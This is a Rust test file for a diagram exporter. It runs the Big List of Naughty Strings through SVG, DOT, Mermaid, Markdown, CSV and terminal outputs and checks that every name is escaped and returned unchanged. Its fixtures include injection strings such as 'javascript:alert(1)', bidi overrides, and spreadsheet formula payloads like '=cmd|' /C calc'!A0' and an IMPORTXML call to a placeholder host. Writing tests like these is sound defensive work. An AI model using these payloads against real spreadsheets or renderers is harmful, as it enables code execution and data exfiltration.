//! Every string of the big list of naughty strings as a name: drawn, and read back unchanged.

use cuibono::diagram::layout::{LayoutOptions, layout};
use cuibono::diagram::{Diagram, Line, PartyBox};
use cuibono::escape::csv::{Cells, CsvWriter, unguarded};
use cuibono::escape::markdown::MarkdownText;
use cuibono::escape::terminal::TerminalLine;
use cuibono::escape::visible::{MARK, brief, is_format, is_noncharacter, spelled, visible};
use cuibono::export::fonts::Fonts;
use cuibono::export::{dot, html, mermaid, png, svg};
use quick_xml::events::Event;

#[path = "support/tally.rs"]
mod tally;
use tally::tally;

fn names() -> Vec<String> {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/naughty-strings/blns.json");
    let mut names: Vec<String> =
        serde_json::from_str(&std::fs::read_to_string(file).expect("fixture")).expect("list of strings");
    let own = [
        "a\"]; evil [label=\"x",
        "tail\\",
        "\\N \\G \\E",
        "&#60;b&#62;",
        "\u{0}\u{7f}\u{9b}",
        "\u{FFFE}\u{FFFF}",
        "]]>",
        "end",
        "%%{init: {}}%%",
        "javascript:alert(1)",
        "<foreignObject><b>x</b></foreignObject>",
        "&#0;&#x1b;",
        "a\u{202e}moc\u{202c}",
        "\u{200b}\u{feff}",
        "שלום 24 (x)",
        "click n1 href \"http://x\"",
        "$$x$$",
        "<br/>",
        "\\n\\l\\r",
    ];
    names.extend(own.iter().map(|name| (*name).to_owned()));
    names
}

fn diagram(names: &[String]) -> Diagram {
    let boxes = names.iter().map(|name| PartyBox { id: name.clone(), name: name.clone(), ..PartyBox::default() });
    let lines = (1..names.len()).map(|at| Line { id: names[at].clone(), owner: at / 4, owned: at, ..Line::default() });
    Diagram { boxes: boxes.collect(), lines: lines.collect(), title: names.join(" "), ..Diagram::default() }
}

/// Values of one attribute of all elements of a class.
fn attributes(document: &str, class: &str, key: &str) -> Vec<String> {
    let mut reader = quick_xml::Reader::from_str(document);
    let mut values = Vec::new();
    loop {
        let element = match reader.read_event().expect("well-formed") {
            Event::Eof => return values,
            Event::Start(element) | Event::Empty(element) => element,
            _ => continue,
        };
        let value = |key: &str| {
            let found = element.attributes().map(|a| a.expect("attribute")).find(|a| a.key.as_ref() == key);
            found.map(|a| quick_xml::escape::unescape(&a.value).expect("references").into_owned())
        };
        if value("class").is_some_and(|found| found.split(' ').any(|word| word == class)) {
            values.push(value(key).unwrap_or_default());
        }
    }
}

fn xml_allows(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | ' '..='\u{FFFD}' | '\u{10000}'..)
}

#[test]
fn svg_gives_names_back() {
    let names = names();
    assert!(names.len() > 500);
    let diagram = diagram(&names);
    let geometry = layout(&diagram, &LayoutOptions::default()).expect("valid");
    let document = svg::to_string(&diagram, &geometry);
    let wanted: Vec<String> = names.iter().map(|n| n.replace(|c| !xml_allows(c), "\u{FFFD}")).collect();
    assert_eq!(attributes(&document, "box", "data-name"), wanted);
    assert_eq!(attributes(&document, "box", "data-id"), wanted);
    assert_eq!(attributes(&document, "line", "data-id"), wanted[1..]);
    let page = html::to_string(&diagram, &geometry);
    assert_eq!(page.matches("<script").count(), 1);
    let exact = names.iter().zip(&wanted).filter(|(name, shown)| name == shown).count();
    let ends = [("exact", exact), ("characters that XML forbids marked", names.len() - exact)];
    tally("naughty names, in SVG", names.len(), &ends);
}

/// Every element and attribute of a picture is one that the writer means: none runs anything or leads anywhere.
#[test]
fn pictures_hold_nothing_that_runs_or_leads_away() {
    const ELEMENTS: [&str; 8] = ["svg", "title", "desc", "g", "rect", "path", "polygon", "text"];
    let diagram = diagram(&names());
    let geometry = layout(&diagram, &LayoutOptions::default()).expect("valid");
    let document = svg::to_string(&diagram, &geometry);
    let mut reader = quick_xml::Reader::from_str(&document);
    let mut seen = 0;
    loop {
        let element = match reader.read_event().expect("well-formed") {
            Event::Eof => break,
            Event::Start(element) | Event::Empty(element) => element,
            Event::End(_) | Event::Text(_) | Event::GeneralRef(_) => continue,
            other => panic!("{other:?} has no place in a picture"),
        };
        let name = element.name().as_ref().to_owned();
        assert!(ELEMENTS.contains(&name.as_str()), "{name}");
        for attribute in element.attributes() {
            let key = attribute.expect("attribute").key.as_ref().to_owned();
            assert!(!key.starts_with("on") && !key.contains("href") && key != "style", "{name} {key}");
        }
        seen += 1;
    }
    assert!(seen > 2_000, "{seen}");
}

#[test]
fn drawn_text_holds_nothing_hidden() {
    let names = names();
    let diagram = diagram(&names);
    let geometry = layout(&diagram, &LayoutOptions::default()).expect("valid");
    for (name, party) in names.iter().zip(&geometry.boxes) {
        for text in &party.texts {
            assert!(
                !text.text.chars().any(|c| c.is_control() || matches!(c, '\u{202A}'..='\u{202E}' | '\u{200B}')),
                "{name:?}"
            );
        }
        let drawn: String = party.texts.iter().map(|text| text.text.as_str()).collect::<String>();
        let cut = drawn.contains('…');
        let squeeze = |text: &str| text.split_whitespace().collect::<String>();
        let whole = squeeze(&drawn).starts_with(&squeeze(&visible(name)));
        assert!(cut || whole, "{name:?} is drawn as {drawn:?}");
    }
}

#[test]
fn png_draws_them_all() {
    let names: Vec<String> = names().into_iter().take(120).collect();
    let diagram = diagram(&names);
    let geometry = layout(&diagram, &LayoutOptions::default()).expect("valid");
    let options = png::PngOptions { percent: 20, fonts: Fonts { of_system: false, allow_missing: true } };
    assert!(png::draw(&diagram, &geometry, &options).is_ok());
}

/// What the DOT rule makes of a text.
fn dot_form(text: &str) -> String {
    let one = |c: char| match c {
        '\t'..='\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
        c if c.is_control() || is_noncharacter(c) => MARK,
        c => c,
    };
    text.chars().map(one).collect()
}

/// Needs Graphviz; skipped with a message where `dot` is not installed.
#[test]
fn graphviz_shows_names_unchanged() {
    use std::io::Write;
    let names = names();
    let diagram = Diagram { lines: Vec::new(), title: String::new(), ..diagram(&names) };
    let command = std::process::Command::new("dot")
        .arg("-Tsvg")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn();
    let Ok(mut child) = command else {
        println!("skipped: no dot");
        return;
    };
    let text = dot::to_string(&diagram);
    let mut input = child.stdin.take().expect("piped");
    let writer = std::thread::spawn(move || input.write_all(text.as_bytes()));
    let output = child.wait_with_output().expect("dot ends");
    writer.join().expect("thread").expect("written");
    assert!(output.status.success());
    let document = String::from_utf8(output.stdout).expect("utf-8");
    assert_eq!(document.matches("class=\"node\"").count(), names.len());
    // Graphviz writes the second of two blanks as a no-break space.
    let blanks = |text: &str| text.replace('\u{a0}', " ");
    let shown: std::collections::HashSet<String> = titles(&document).iter().map(|text| blanks(text)).collect();
    for (index, name) in names.iter().enumerate() {
        let wanted = blanks(&dot_form(&diagram.box_sentence(index)));
        assert!(shown.contains(&wanted), "{name:?}: {wanted:?}");
    }
    let squeeze = |text: &str| text.split_whitespace().collect::<String>();
    let labels = labels(&document);
    for (index, name) in names.iter().enumerate() {
        let wanted = if name.trim().is_empty() { "(no name)".to_owned() } else { visible(name) };
        let label = &labels[&format!("n{}", index + 1)];
        let cut = label.contains('…');
        assert!(cut || squeeze(label).starts_with(&squeeze(&wanted)), "{name:?} is shown as {label:?}");
    }
    let exact = names.iter().filter(|name| dot_form(name) == **name).count();
    tally("naughty names, in DOT through Graphviz", names.len(), &[("exact", exact), ("marked", names.len() - exact)]);
}

/// Text of each node by its id.
fn labels(document: &str) -> std::collections::HashMap<String, String> {
    let mut reader = quick_xml::Reader::from_str(document);
    let mut labels = std::collections::HashMap::<String, String>::new();
    let (mut id, mut inside) = (String::new(), false);
    loop {
        match reader.read_event().expect("well-formed") {
            Event::Eof => return labels,
            Event::Start(element) => {
                let value = |key: &str| {
                    let found = element.attributes().map(|a| a.expect("attribute")).find(|a| a.key.as_ref() == key);
                    found.map(|a| a.value.into_owned())
                };
                if value("class").as_deref() == Some("node") {
                    id = value("id").unwrap_or_default();
                }
                inside = element.name().as_ref() == "text";
            }
            Event::End(_) => inside = false,
            Event::Text(text) if inside => labels.entry(id.clone()).or_default().push_str(&text),
            Event::GeneralRef(name) if inside => {
                let reference = format!("&{};", &*name);
                let text = quick_xml::escape::unescape(&reference).expect("reference");
                labels.entry(id.clone()).or_default().push_str(&text);
            }
            _ => {}
        }
    }
}

fn titles(document: &str) -> std::collections::HashSet<String> {
    let mut reader = quick_xml::Reader::from_str(document);
    let mut titles = std::collections::HashSet::new();
    loop {
        match reader.read_event().expect("well-formed") {
            Event::Eof => return titles,
            Event::Start(element) | Event::Empty(element) => {
                let found =
                    element.attributes().map(|a| a.expect("attribute")).find(|a| a.key.as_ref() == "xlink:title");
                titles.extend(found.map(|a| quick_xml::escape::unescape(&a.value).expect("references").into_owned()));
            }
            _ => {}
        }
    }
}

#[test]
fn mermaid_follows_its_rule() {
    let names = names();
    let text = mermaid::to_string(&Diagram { title: String::new(), ..diagram(&names) });
    let nodes: Vec<&str> = text.lines().filter(|line| line.starts_with("  n") && line.contains("[\"")).collect();
    assert_eq!(nodes.len(), names.len());
    for (name, line) in names.iter().zip(nodes) {
        let label = line.split_once("[\"").and_then(|(_, rest)| rest.strip_suffix("\"]")).expect("label");
        let shown = decode(label.split("<br/>").next().unwrap_or_default());
        let mark = |c: char| {
            if c.is_control() || is_format(c) || is_noncharacter(c) { MARK } else { c }
        };
        let wanted: String = visible(&brief(name, 500)).chars().map(mark).collect();
        let wanted = if wanted.trim().is_empty() { "(no name)" } else { wanted.trim() };
        assert_eq!(shown, wanted, "{name:?}");
        assert!(label.chars().all(|c| c.is_ascii_alphanumeric() || " #;<>/".contains(c) || c >= '\u{A0}'), "{label}");
    }
    assert!(!text.lines().any(|line| ["click", "%%{"].iter().any(|word| line.trim_start().starts_with(word))));
    let exact = names.iter().filter(|name| visible(name) == **name && !name.chars().any(is_format)).count();
    tally("naughty names, in Mermaid", names.len(), &[("exact", exact), ("marked", names.len() - exact)]);
}

/// A parser of Markdown, with all its extensions, sees nothing but texts: the names.
#[test]
fn markdown_shows_names_as_text() {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let mut names = names();
    let own = [
        "[a](b)",
        "![a](http://b/c.png)",
        "<http://a.b>",
        "http://a.b",
        "(www.a.b",
        "*www.a.b*",
        "a@b.org",
        "x|y",
        "\\|",
        "`a`",
        "1. a",
        "12) a",
        "- a",
        "+ a",
        "* a",
        "# a",
        "> a",
        "===",
        "---",
        "[^1]",
        "[x] a",
        "$a$",
        ":smile:",
        "a\n\n| b |",
        "~~a~~",
        "&lt;",
        "&#60;script&#62;",
        "<!-- a -->",
        "[a]: http://b",
        "[[a]]",
        "mailto:a@b.c",
        "a  \nb",
        "{#id .class}",
        "term\n: def",
    ];
    names.extend(own.map(str::to_owned));
    let blank = names.iter().filter(|name| spelled(name).is_empty()).count();
    let mut exact = 0;
    for name in names.iter().filter(|name| !spelled(name).is_empty()) {
        let (escaped, wanted) = (MarkdownText::new(name), spelled(name));
        exact += usize::from(wanted == *name);
        for document in
            [format!("| a | b |\n| --- | --- |\n| {escaped} | {escaped} |\n"), format!("{escaped}\n\n{escaped}\n")]
        {
            let mut texts = vec![String::new()];
            for event in Parser::new_ext(&document, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
                match event {
                    Event::Text(text) => texts.last_mut().expect("a text").push_str(&text),
                    Event::Start(Tag::Table(_) | Tag::TableHead | Tag::TableRow | Tag::TableCell | Tag::Paragraph) => {}
                    Event::End(TagEnd::TableCell | TagEnd::Paragraph) => texts.push(String::new()),
                    Event::End(_) => {}
                    other => panic!("{name:?} becomes {other:?} in {document:?}"),
                }
            }
            texts.pop();
            assert_eq!(texts[texts.len() - 2..], [wanted.as_str(), &wanted], "{name:?} in {document:?}");
        }
    }
    let ends = [("exact", exact), ("marked", names.len() - blank - exact), ("blank", blank)];
    tally("naughty names, in Markdown through a parser", names.len(), &ends);
}

/// No cell begins a formula in a spreadsheet, whatever that drops at its start, and each gives the exact name back.
#[test]
fn csv_starts_no_formula_and_gives_names_back() {
    let mut names = names();
    let own = [
        "=1",
        "+1",
        "-1",
        "@x",
        "\t=1",
        "\r=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        " =1",
        "\u{a0}=1",
        "\u{3000}=1",
        "\u{200b}=1",
        "\u{feff}=1",
        "'=1",
        "''=1",
        "\"=1\"",
        "\n=1",
        "\u{0}=1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x\",\"y\")",
        "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
        "\u{202e}=1",
        "’=1",
        "a=1",
        "5",
        "-5",
    ];
    names.extend(own.map(str::to_owned));
    let mut out = CsvWriter::begin(Vec::new(), Cells::Safe, ["name"]).expect("memory");
    for name in &names {
        out.text(name).and_then(|()| out.end_row()).expect("memory");
    }
    let (bytes, marked) = out.finish().expect("memory");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let cells: Vec<String> = reader.records().map(|row| row.expect("a row")[0].to_owned()).collect();
    assert_eq!(cells.len(), names.len());
    // What a spreadsheet drops at the start of a cell, and what starts a formula.
    let dropped = |c: char| c.is_whitespace() || c.is_control() || is_format(c) || "\"’".contains(c);
    let triggers = |c: char| "=+-@＝＋－＠\t\r".contains(c);
    for (cell, name) in cells.iter().zip(&names) {
        assert_eq!(&*unguarded(cell), name.as_str());
        assert!(!cell.trim_start_matches(|c| dropped(c) && !triggers(c)).starts_with(triggers), "{cell:?}");
    }
    assert!((40..120).contains(&marked), "{marked}");
    tally("naughty names, in CSV", names.len(), &[("exact", names.len() - marked), ("marked", marked)]);
}

/// Each name is one line of a terminal.
#[test]
fn terminals_are_given_lines_that_command_nothing() {
    let names = names();
    let mut exact = 0;
    for name in &names {
        let line = TerminalLine::new(name).to_string();
        assert!(
            !line.chars().any(|c| c.is_control() || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}' | '\u{2067}')),
            "{line:?}"
        );
        let isolates = |c: char| line.matches(c).count();
        assert_eq!(isolates('\u{2068}'), isolates('\u{2069}'));
        exact += usize::from(line == *name);
    }
    tally(
        "naughty names, on a terminal",
        names.len(),
        &[("exact", exact), ("marked or set apart", names.len() - exact)],
    );
}

fn decode(label: &str) -> String {
    let mut decoded = String::new();
    let mut rest = label;
    while let Some((before, after)) = rest.split_once('#') {
        let (code, tail) = after.split_once(';').expect("reference");
        decoded.push_str(before);
        decoded.extend(code.parse().ok().and_then(char::from_u32));
        rest = tail;
    }
    decoded + rest
}
